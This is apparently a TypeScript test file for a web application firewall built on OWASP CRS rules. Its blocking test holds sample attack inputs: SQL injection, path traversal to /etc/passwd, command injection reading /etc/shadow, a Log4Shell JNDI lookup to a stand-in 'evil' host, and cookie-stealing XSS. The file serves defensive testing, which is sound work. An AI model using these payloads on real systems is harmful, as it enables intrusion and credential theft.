/**
 * OWASP CRS 4.28 itself (loaded from ../shared/crs-4.28, never copied here): it loads, reports
 * what it skips by rule id, and on CRS's own regression payloads (crs-dev.jsonl) the prefilter
 * changes no outcome while sparing most regexes. The detection figure is `npm run waf:eval`'s.
 */
import t, { type Test } from 'tap';
import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { loadCrs } from '../../../src/waf/crs/loader.js';
import { CRS_ABSENT, crsDir } from '../../helpers/crs.js';
import type { Transaction } from '../../../src/waf/crs/transaction.js';
import { run, type Req } from './helpers.js';

const dir = crsDir();

interface DevLine { id: string; method: string; uri: string; headers: [string, string][]; body?: string | null; pl: number; rule_id: number; expect: string; expect_ids: number[] }

function reqOf(l: DevLine): Req {
  const q = l.uri.indexOf('?');
  const headers = [...l.headers];
  if (l.body && !headers.some(([n]) => /^content-length$/i.test(n))) headers.push(['Content-Length', String(Buffer.byteLength(l.body))]);
  return { method: l.method, path: q < 0 ? l.uri : l.uri.slice(0, q), query: q < 0 ? '' : l.uri.slice(q + 1), headers, ...(l.body ? { body: Buffer.from(l.body, 'utf8').toString('latin1') } : {}) };
}

void t.test('CRS 4.28 loads, with what it skips reported by rule id', { skip: dir === null ? CRS_ABSENT : false }, async (t) => {
  const crs = loadCrs({ rulesDir: dir!, paranoia: 1, anomalyThreshold: 5 });
  t.equal(crs.version, '4.28.0');
  t.ok(crs.ruleCount > 400, `${crs.ruleCount} request rules`);
  const skipped = new Map(crs.skipped.map((s) => [s.id, s.reason]));
  t.notOk(skipped.has(942100) || skipped.has(941100), '@detectSQLi/@detectXSS run (src/waf/crs/detectors.ts)');
  t.ok([...skipped.keys()].some((id) => id >= 950000 && id < 960000), 'response rules are skipped');
  t.notOk([...skipped.keys()].some((id) => id >= 911000 && id < 950000), 'every request rule runs');
  t.ok(crs.evaluator.prefiltered > 150, `${crs.evaluator.prefiltered} patterns prefiltered`);
});

/** What a request's evaluation decided: the rules that matched, the interruption, and the scores. */
function outcome(tx: Transaction): string {
  return `${tx.matchedIds.join()} ${tx.interrupted ? 'interrupted' : 'passed'} ${tx.tx.get('blocking_inbound_anomaly_score') ?? '-'} ${tx.tx.get('detection_inbound_anomaly_score') ?? '-'}`;
}

const corpus = join(dir ?? '', '..', 'waf-corpus', 'crs-dev.jsonl');
void t.test('on CRS’s regression payloads neither the prefilter, the no-match memo nor folding changes an outcome', { skip: dir === null || !existsSync(corpus) ? CRS_ABSENT : false }, async (t) => {
  const all = readFileSync(corpus, 'utf8').split('\n').filter((l) => l !== '').map((l) => JSON.parse(l) as DevLine).filter((l) => l.rule_id < 950000);
  // Paranoia 4 runs every rule; paranoia 1 folds the most (the skips over PL2-4 rules). A third
  // of the corpus each: enough to see a difference, quick on a shared machine.
  for (const [paranoia, third] of [[4, 0], [1, 1]] as const) await t.test(`paranoia ${paranoia}`, async (t) => compare(t, paranoia, all.filter((_, i) => i % 3 === third)));
});

async function compare(t: Test, paranoia: number, lines: readonly DevLine[]): Promise<void> {
  const fast = loadCrs({ rulesDir: dir!, paranoia, anomalyThreshold: 5 });
  const slow = loadCrs({ rulesDir: dir!, paranoia, anomalyThreshold: 5, prefilter: false, fold: false });
  t.ok(fast.evaluator.folded > 20, `${fast.evaluator.folded} rules folded at load`);
  t.equal(slow.evaluator.folded, 0);
  let differ = 0;
  let fired = 0;
  for (const l of lines) {
    const a = outcome(run(fast, reqOf(l)));
    const b = outcome(run(slow, reqOf(l)));
    // Sent again, values meet the no-match memo of the first pass: the same outcome.
    const again = outcome(run(fast, reqOf(l)));
    if (again !== a) t.fail(`${l.id}: ${again} the second time, ${a} the first`);
    if (a !== b) {
      differ++;
      t.fail(`${l.id}: ${a} with the prefilter and folding, ${b} without`);
    }
    if (l.expect === 'attack' && l.expect_ids.every((id) => a.split(' ')[0]!.split(',').includes(String(id)))) fired++;
  }
  t.equal(differ, 0, `${lines.length} requests at paranoia ${paranoia}`);
  t.ok(fired > 0);
}

void t.test('attacks are blocked and ordinary requests pass at paranoia 1', { skip: dir === null ? CRS_ABSENT : false }, async (t) => {
  const crs = loadCrs({ rulesDir: dir!, paranoia: 1, anomalyThreshold: 5 });
  const h: [string, string][] = [['Host', 'shop.example'], ['User-Agent', 'Mozilla/5.0'], ['Accept', 'application/json']];
  const cases: [Req, boolean][] = [
    [{ path: '/search', query: 'q=1%27%20UNION%20SELECT%20password%20FROM%20users--', headers: h }, true],
    [{ path: '/page', query: 'file=../../../../etc/passwd', headers: h }, true],
    [{ path: '/x', query: 'cmd=;cat%20/etc/shadow', headers: h }, true],
    [{ path: '/x', headers: [...h, ['X-Api-Version', '${jndi:ldap://evil/a}']] }, true],
    [{ method: 'POST', path: '/api', headers: [...h, ['Content-Type', 'application/json'], ['Content-Length', '40']], body: '{"q":"<script>alert(document.cookie)</script>"}' }, true],
    [{ path: '/api/v1/orders', query: 'status=open&limit=25&sort=-created_at', headers: h }, false],
    [{ method: 'POST', path: '/api/orders', headers: [...h, ['Content-Type', 'application/json'], ['Content-Length', '50']], body: '{"name":"Conor O\'Dwyer","notes":"Ring twice, thanks!"}' }, false],
  ];
  for (const [req, attack] of cases) {
    const tx = run(crs, req);
    t.equal(tx.interrupted, attack, `${req.method ?? 'GET'} ${req.path}?${req.query ?? ''} ${attack ? 'blocked' : 'passes'} (${tx.matchedIds.join(',') || 'no match'}, score ${tx.tx.get('blocking_inbound_anomaly_score')})`);
  }
});

const DEBIAN = '/usr/share/modsecurity-crs';
void t.test('Debian’s modsecurity-crs (CRS 3.3.4) loads too', { skip: existsSync(join(DEBIAN, 'rules')) ? false : `${DEBIAN} absent (apt-get install modsecurity-crs)` }, async (t) => {
  const setup = '/etc/modsecurity/crs/crs-setup.conf';
  const crs = loadCrs({ rulesDir: DEBIAN, setup: existsSync(setup) ? setup : undefined, paranoia: 1, anomalyThreshold: 5 });
  t.match(crs.version, /^3\.3\./);
  t.ok(crs.ruleCount > 400, `${crs.ruleCount} request rules`);
  const h: [string, string][] = [['Host', 'shop.example'], ['User-Agent', 'Mozilla/5.0'], ['Accept', 'application/json']];
  t.equal(run(crs, { path: '/page', query: 'file=../../../../etc/passwd', headers: h }).interrupted, true, 'an attack is blocked');
  t.equal(run(crs, { path: '/api/v1/orders', query: 'status=open&limit=25', headers: h }).interrupted, false, 'a plain GET passes');
});
